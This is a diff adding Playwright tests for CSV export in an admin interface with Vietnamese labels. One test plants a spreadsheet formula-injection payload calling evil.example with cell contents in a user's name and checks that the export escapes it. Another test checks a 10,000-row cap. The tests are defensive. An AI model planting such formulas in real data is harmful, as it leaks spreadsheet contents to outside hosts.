@@ -141,6 +141,40 @@ describe('a list as a file', () => {
     expect((await linesOf(download)).length).toBeGreaterThan(200);
   });
 
+  it('holds no formula, whatever somebody is called', async () => {
+    const attack = `=HYPERLINK("http://evil.example/?"&A1,"Xem")`;
+    await journeys.server.sql('update account set full_name = $1 where username = $2', [attack, 'officer.38.4']);
+    const page = await openList('/admin/accounts');
+    await page.keyboard.press('e');
+    const [download] = await Promise.all([
+      page.waitForEvent('download'),
+      page.getByRole('dialog').getByRole('button', { name: 'Xuất', exact: true }).click(),
+    ]);
+    const lines = await linesOf(download);
+    expect(lines).toContainEqual(expect.stringContaining(`"'=HYPERLINK(""http://evil.example/?""&A1,""Xem"")",`));
+  });
+
+  it('ends at 10,000 rows, and says so', async () => {
+    const page = await openList('/admin/declarations');
+    let first: string | null = null;
+    await page.route('**/graphql', async (route) => {
+      if (!route.request().postData()?.includes('forExport":true')) return route.continue();
+      first ??= await (await route.fetch()).text();
+      await route.fulfill({
+        contentType: 'application/json',
+        body: first.replace(/"totalCount":\d+/, '"totalCount":null'),
+      });
+    });
+    await page.keyboard.press('e');
+    const dialog = page.getByRole('dialog', { name: 'Xuất CSV' });
+    const [download] = await Promise.all([
+      page.waitForEvent('download'),
+      dialog.getByRole('button', { name: 'Xuất', exact: true }).click(),
+    ]);
+    expect(await linesOf(download)).toHaveLength(10_001);
+    await dialog.getByText('Một tệp có nhiều nhất 10.000 hàng').waitFor();
+  });
+
   it('is not offered to who may only look', async () => {
     const page = await openList('/admin/passages', 'desktop', 'tracer.38');
     expect(await page.getByRole('button', { name: 'Xuất CSV' }).count()).toBe(0);
